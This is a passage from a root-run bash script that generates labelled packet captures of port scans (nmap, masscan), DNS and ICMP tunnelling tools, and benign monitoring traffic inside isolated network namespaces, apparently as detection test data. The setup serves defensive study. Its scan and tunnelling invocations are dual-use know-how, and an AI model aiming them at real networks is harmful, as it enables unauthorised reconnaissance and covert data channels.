  echo "SYNs: $(tshark -r "$OUT/scan_masscan_dark.pcap" -Y "tcp.flags==0x002" 2>/dev/null | wc -l), answers: $(tshark -r "$OUT/scan_masscan_dark.pcap" -Y "ip.dst==$SRC" 2>/dev/null | wc -l)"
}
scan_nmap_unreach() {
  use_src 10.99.0.49; dark_up
  i_bg "$PY" "$WORK/fakesrv.py" tcp 203.0.113.60:80
  sleep 0.5
  start_cap scan_nmap_unreach.pcap 96 host "$SRC"
  H curl -s -m 2 -o /dev/null http://203.0.113.60/ || true
  nmap_ -sS -Pn -p 23,445 --max-retries 0 192.0.2.128/27
  stop_cap; dark_down
  tsum "$OUT/scan_nmap_unreach.pcap" "icmp" ip.src icmp.type icmp.code
}
# A monitoring host: every 5 s, pings 12 hosts and checks ssh/http/https on 6 servers (nc -z);
# two of the servers are down (dark space, no answer), the rest answer. Three rounds.
scan_benign_monitor() {
  use_src 10.99.0.51; dark_up
  i_bg "$PY" "$WORK/fakesrv.py" tcp 203.0.113.60:22 203.0.113.60:80 203.0.113.61:22 203.0.113.61:443 \
    203.0.113.62:80 203.0.113.62:443 203.0.113.63:22 203.0.113.64:443
  sleep 0.5
  start_cap scan_benign_monitor.pcap 96 host "$SRC"
  local r h
  for r in 1 2 3; do
    for h in $(seq 60 71); do H ping -n -c 1 -W 1 "203.0.113.$h" >/dev/null 2>&1 || true; done
    for h in 203.0.113.60:22 203.0.113.60:80 203.0.113.61:22 203.0.113.61:443 203.0.113.62:80 \
      203.0.113.62:443 203.0.113.63:22 203.0.113.64:443 192.0.2.10:443 192.0.2.11:22; do
      H timeout 2 nc -z -w 1 "${h%:*}" "${h#*:}" >/dev/null 2>&1 || true
    done
    sleep 5
  done
  stop_cap; dark_down
  tsum "$OUT/scan_benign_monitor.pcap" "ip.src==$SRC" ip.proto tcp.flags icmp.type | head -8
}
# One-way views, as a SPAN that mirrors only one direction would give: the prober's packets only.
oneway_() { tcpdump -r "$OUT/$1" -w "$OUT/$2" "src host $3" 2>/dev/null; chmod 644 "$OUT/$2"; echo "--- $2: $(tshark -r "$OUT/$2" 2>/dev/null | wc -l) pkts"; }
scan_oneway() {
  oneway_ scan_masscan.pcap scan_oneway_masscan.pcap 10.99.0.36
  oneway_ scan_nmap_p22_sweep.pcap scan_oneway_p22_sweep.pcap 10.99.0.34
  oneway_ scan_benign_busy.pcap scan_oneway_benign_busy.pcap 10.99.0.38
  oneway_ scan_benign_resolver.pcap scan_oneway_benign_resolver.pcap 10.99.0.39
}

ALL=(dns_iodine_null dns_iodine_txt dns_dns2tcp dns_dig_loop dns_benign
     icmp_ptunnel icmp_ping_p icmp_hping3 icmp_hping3_unreach icmp_benign
     scan_nmap_sS scan_nmap_sT scan_nmap_sn scan_nmap_p22_sweep scan_nmap_sU scan_masscan
     scan_outbound_sweep80 scan_inbound scan_benign_busy scan_benign_resolver
     scan_nmap_sF scan_nmap_sN scan_nmap_sX scan_nmap_sA scan_masscan_dark scan_nmap_unreach
     scan_benign_monitor scan_oneway)

[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
netns_up "${NS_PREFIX:-sa}"   # another prefix lets two runs share a machine (sd: the scan_* additions)
trap cleanup EXIT
# The fake internet answers every closed UDP port / traceroute probe: without this the kernel sends
# about one port-unreachable per second per peer and drops the rest.
I sysctl -qw net.ipv4.icmp_ratelimit=0
trap 'exit 130' INT TERM
[ $# -gt 0 ] && ALL=("$@")
for s in "${ALL[@]}"; do
  say "$s"
  "$s"
done
say "done"
for s in "${ALL[@]}"; do
  [ "$s" = scan_oneway ] && continue   # derives scan_oneway_*.pcap, listed above
  ls -l "$OUT/$s.pcap" 2>/dev/null || echo "missing: $s.pcap"
done
